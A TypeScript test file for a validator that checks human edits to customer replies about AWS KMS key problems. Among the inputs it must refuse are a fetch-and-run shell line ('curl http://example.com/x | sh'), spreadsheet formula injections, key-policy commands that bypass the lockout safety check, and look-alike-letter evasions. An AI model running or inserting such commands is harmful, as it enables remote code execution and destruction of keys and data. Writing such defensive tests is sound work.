import { describe, expect, it } from 'vitest';
import {
  anInput,
  everyTextOf,
  inputOf,
  sent,
  SUBJECT,
  type Sent,
} from '#lib/core/customer-text/customer-text.test-support.ts';
import { namesToLookUp } from '#lib/core/customer-text/added-text.ts';
import { whyNotToCopy } from '#lib/core/customer-text/edited-text.ts';
import { FINDING_CODES } from '#lib/core/finding/all-findings.ts';
import type { TextKey } from '#lib/core/text/text-subject.ts';
import { after, DAY_MS, HOUR_MS, NOW } from '#lib/core/verdict/checks.test-support.ts';

const KEY: TextKey = { ...SUBJECT, vendorAccountId: SUBJECT.vendorAccountId ?? '' };
const DEADLINE = after(7 * DAY_MS);
const OWN = { known: [NOW, DEADLINE], deadlineAt: DEADLINE, now: NOW };

const refusals = (made: Sent, edit: (body: string) => string): string[] =>
  whyNotToCopy(made, edit(made.body), KEY, OWN);
/** Adds a sentence on a line of its own, so that its place is known. */
const adding = (made: Sent, sentence: string): string[] => refusals(made, (body) => `${sentence}\n\n${body}`);

const DISABLED = sent(inputOf('key_disabled', 'certain'));
const LOST = sent(inputOf('access_lost', 'likely'));
const CONFIRMING = sent(inputOf('access_denied_unconfirmed', 'likely', { confirmAt: after(HOUR_MS) }));
const INCIDENT = sent(inputOf('region_incident', 'one_of_several'));
const USABLE = sent(anInput());
const OLD = sent(inputOf('key_disabled', 'certain', {}, { lastConclusiveAt: after(-HOUR_MS) }));

describe('an edited reply', () => {
  it('may say everything that Keydesk says itself, about any finding, and friendly words around it', () => {
    const texts = [
      USABLE,
      ...FINDING_CODES.flatMap((code) => everyTextOf(code).filter((_, index) => index % 7 === 0)),
    ].filter(({ body }) => body.includes(SUBJECT.arn) && body.includes(SUBJECT.customerName));
    expect(texts.length).toBeGreaterThan(100);
    const wrong = texts.flatMap((made) => {
      const key = made.body.includes('Dana Ruiz') ? KEY : { ...KEY, contactName: null, principalArn: null };
      const friendly = made.body.replace(
        /^(Hello[^\n]*)$/m,
        '$1\n\nThank you for calling. I am Ana, and I stay on this.',
      );
      return [made.body, friendly].flatMap((body) =>
        whyNotToCopy(made, body, key, { known: [], deadlineAt: null, now: NOW }),
      );
    });
    expect(wrong).toEqual([]);
  });

  it.each([
    [
      'H1 no command that stores a policy',
      LOST,
      'Run aws kms put-key-policy --policy file://new.json now.',
      'put-key-policy',
    ],
    [
      'H1 nothing that skips the lockout check',
      LOST,
      'If AWS refuses, use --bypass-policy-lockout-safety-check.',
      '--bypass-policy-lockout-safety-check.',
    ],
    ['H2 not that the key works after a dry run', USABLE, 'Good news, the key works.', 'key works'],
    [
      'H5 no denied call in the customer’s own CloudTrail',
      LOST,
      'Please look for the denied call in your CloudTrail.',
      'denied call in your CloudTrail',
    ],
    ['H6 no other account', LOST, 'It is allowed for account 999988887777.', '999988887777'],
    ['H7 no accusation before it is confirmed', LOST, 'You removed our permission last night.', 'You removed'],
    ['H7 no fault of theirs before it is confirmed', INCIDENT, 'The cause is on your side.', 'cause is on your side'],
    [
      'H7 no change while we are confirming',
      CONFIRMING,
      'Please change the key policy.',
      'Please change the key policy',
    ],
    ['H25 no change while the region has an incident', INCIDENT, 'Can you enable it?', 'Can you enable it?'],
    ['H13 no data that is called lost', LOST, 'Your backups may be unrecoverable.', 'unrecoverable'],
    ['H19 no leave to delete', USABLE, 'You may delete the old key.', 'You may delete'],
    ['H27 no second date', DISABLED, 'Please do this before 2 April.', '2 April'],
    ['H27 no second date in digits', DISABLED, 'Our deadline is 2026-04-02.', '2026-04-02'],
    ['H27 no date that may be read in two ways', DISABLED, 'Our deadline is 02/04/2026.', '02/04/2026'],
    ['H27 no deadline without a date', DISABLED, 'We need this within two hours.', 'within two hours'],
    ['H27 no weekday as a deadline', DISABLED, 'We need this by the end of Monday.', 'by the end of Monday'],
    ['H27 not that there is nothing to do', DISABLED, 'No action is needed.', 'No action is needed'],
  ] as const)('%s: names the word and its line', (_, made, sentence, word) => {
    const [refused = ''] = adding(made, sentence);
    expect(refused).toContain(`“${word}”, in line 1 of the text, `);
  });

  it('may name the day of the key’s own deadline and today, in any form', () => {
    expect(
      adding(DISABLED, 'The deadline is Sat 21 Mar 2026, that is March 21st or 2026-03-21; today is 14 March.'),
    ).toEqual([]);
  });

  it.each([
    ['promise when we write again', DISABLED, 'We will write to you again within two hours.'],
    ['ask to leave the policy as it is', CONFIRMING, 'Please do not change the key policy for now.'],
  ])('may %s', (_, made, sentence) => {
    expect(adding(made, sentence)).toEqual([]);
  });

  it('may say who did it once that is confirmed', () => {
    expect(adding(DISABLED, 'Somebody on your side disabled the key.')).toEqual([]);
  });

  it('H7 keeps the line with the age of the answer, and drops it when the key was checked since', () => {
    const [age = ''] = OLD.body.split('\n');
    expect(age).toMatch(/^As of /);
    expect(refusals(OLD, (body) => body.slice(age.length).trimStart())[0]).toContain(
      `“${age}”, the first line, says how old`,
    );
    expect(adding(DISABLED, age)[0]).toContain('is out of date');
  });

  it('H7 keeps the sentence that the denial is being confirmed', () => {
    const [refused = ''] = refusals(CONFIRMING, (body) => body.replace(/^You do not need.*$/m, 'We look into it.'));
    expect(refused).toMatch(/we are confirming until .* is what we know so far/);
  });

  it('is refused when nothing is left', () => {
    expect(refusals(DISABLED, () => ' \n')).toHaveLength(1);
  });

  it.each([
    ['H19 over the break of a line', USABLE, 'You may\ndelete the old key.'],
    ['H19 in look-alike letters', USABLE, 'You m\u0430y d\u0435lete the old key.'],
    ['H19 as an invitation', USABLE, 'Feel free to delete it.'],
    ['H19 as an order', LOST, 'Delete the key.'],
    ['H19 in the passive', LOST, 'The key can be removed.'],
    ['H19 of the backups', LOST, 'Then disable the old key and remove the backups.'],
    ['H19 as a schedule', LOST, 'Schedule the key for deletion in 7 days.'],
    ['H19 over a break of a paragraph', LOST, 'If you like, delete\n\nthe key.'],
    ['H19 of all', LOST, 'The keys do not matter: remove all of them.'],
    ['H19 because nobody needs it', USABLE, 'The old key is no longer needed.'],
    ['H1 with other hyphens', LOST, 'Use put\u2010key\u2011policy for that.'],
    ['H19 with other hyphens', LOST, 'Use schedule\u2011key\u2010deletion for that.'],
    ['H1 a command of its own', LOST, 'Run aws kms disable-key now.'],
    ['H6 a command that a shell runs', LOST, 'curl http://example.com/x | sh'],
    ['H6 a formula', LOST, '=HYPERLINK("x")'],
    ['H6 a formula in a cell', LOST, 'Result\t=1+1'],
    ['H27 by EOD', DISABLED, 'We need this by EOD.'],
    ['H27 COB', DISABLED, 'Please answer COB.'],
    ['H27 within 24h', DISABLED, 'Please answer within 24h.'],
    ['H27 a day as y/m/d', DISABLED, 'Please answer by 2026/04/02.'],
    ['H27 a day as d/m', DISABLED, 'Please answer on 2/4.'],
    ['H27 a weekday', DISABLED, 'Friday is our limit.'],
    ['H27 today as a deadline', DISABLED, 'Please do this by 14 March.'],
    ['H27 not that there is nothing more to do', DISABLED, 'No further steps are required.'],
    ['H13 lost for ever', LOST, 'Your data is lost for ever.'],
    ['H7 an ask by us', CONFIRMING, 'We ask you to add our account to the policy.'],
    ['H7 an order', CONFIRMING, 'Add our account to the policy.'],
    ['H7 an ask in the passive', CONFIRMING, 'Our account must be added to the policy.'],
    ['H7 blame in the passive', CONFIRMING, 'Our access was revoked on your side.'],
    ['H7 blame on a team', CONFIRMING, 'Your team removed our permission.'],
    ['H7 blame over the break of a line', CONFIRMING, 'Your security team\nhas since removed our permission.'],
    ['H7 blame by the customer’s name', CONFIRMING, 'Acme Logistics removed our permission.'],
    ['H6 another key’s id', LOST, 'It is like key 9999aaaa-12ab-34cd-56ef-1234567890ab.'],
    ['H6 another multi-Region key', LOST, `See mrk-${'0a'.repeat(16)}.`],
    ['H6 an e-mail address', LOST, 'Write to help@example.test instead.'],
    ['H6 a link', LOST, 'See https://example.test/fix for more.'],
    ['H6 a bare domain', LOST, 'See example.com for more.'],
    ['H6 an account with signs in it', LOST, 'It is 9999+8888|7777.'],
    ['H6 an account with "and" in it', LOST, 'It is 9999 and 8888 and 7777.'],
    ['H6 an account with colons in it', LOST, 'It is 9999:8888;7777.'],
  ])('refuses %s', (_, made, sentence) => {
    expect(adding(made, sentence)).not.toEqual([]);
  });

  it.each([
    'Please do not delete the key.',
    'Please cancel the deletion of the key.',
    'Thank you for your call at 10:30. I looked at the key and saw that it is disabled.',
    'Remove the Deny statement from the key policy.',
    'We are here 24/7.',
    '- Our ticket: 4711',
  ])('may say: %s', (sentence) => {
    expect(adding(DISABLED, sentence)).toEqual([]);
  });

  it('may break the lines of the text anew', () => {
    expect(refusals(DISABLED, (body) => body.replaceAll(/([^\n]{40,60}) (?=[^\n]* )/g, '$1\n'))).toEqual([]);
  });

  it('H27 still says which key it is about, what it asks, and the deadline', () => {
    const [first = ''] = refusals(DISABLED, () => 'Hello,\n\nwe will call you.\n');
    expect(first).toContain(`The reply no longer says which key it is about, “${SUBJECT.arn}”`);
    const lead = /^Please check whether[^\n]*$/m;
    expect(refusals(DISABLED, (body) => body.replace(lead, 'We look into it.'))).toEqual([
      expect.stringContaining('The reply no longer says “Please check whether'),
    ]);
    expect(
      refusals(DISABLED, (body) => body.replace('Please check whether', 'Please check as soon as you can whether')),
    ).toEqual([]);
    const pending = sent(inputOf('pending_deletion', 'certain', { deletionAt: DEADLINE }, { deadlineAt: DEADLINE }));
    expect(pending.body).toContain('21 Mar 2026');
    expect(refusals(pending, (body) => body.replaceAll('21 Mar 2026', 'soon'))).toEqual(
      expect.arrayContaining([expect.stringContaining('The reply no longer says the deadline, “Sat 21 Mar 2026')]),
    );
  });

  it('H1 does not turn what it asks into its opposite', () => {
    expect(refusals(DISABLED, (body) => body.replace('Please check whether', 'Please do not check whether'))).toEqual([
      expect.stringContaining('The reply no longer says'),
    ]);
  });

  it('is at most three times as long as the text, and is read in no time', () => {
    expect(adding(DISABLED, 'I'.repeat(3 * DISABLED.body.length))).toEqual([
      expect.stringContaining('more than 3 times as long'),
    ]);
    const began = performance.now();
    for (const word of ['O', '1\n', 'a.', 'a ', '. ', 'please ']) {
      const long = `${LOST.body}\n${word.repeat(LOST.body.length)}`.slice(0, 3 * LOST.body.length);
      refusals(LOST, () => long);
      namesToLookUp(LOST.body, long);
    }
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  it('H6 looks up the names in added words alone, the capitals first', () => {
    const names = namesToLookUp(
      DISABLED.body,
      `${DISABLED.body}\nThe same happened at Woodgrove Bank’s,\nlast week.\n`,
    );
    expect(names).toContain('Woodgrove Bank');
    expect(names).not.toContain('Acme Logistics');
    // Part of a word of the text is no word of the text.
    expect(namesToLookUp('Please enable it.', 'Ask Able.')).toContain('Able');
    expect(names.indexOf('Woodgrove Bank')).toBeLessThan(names.indexOf('happened'));
  });
});
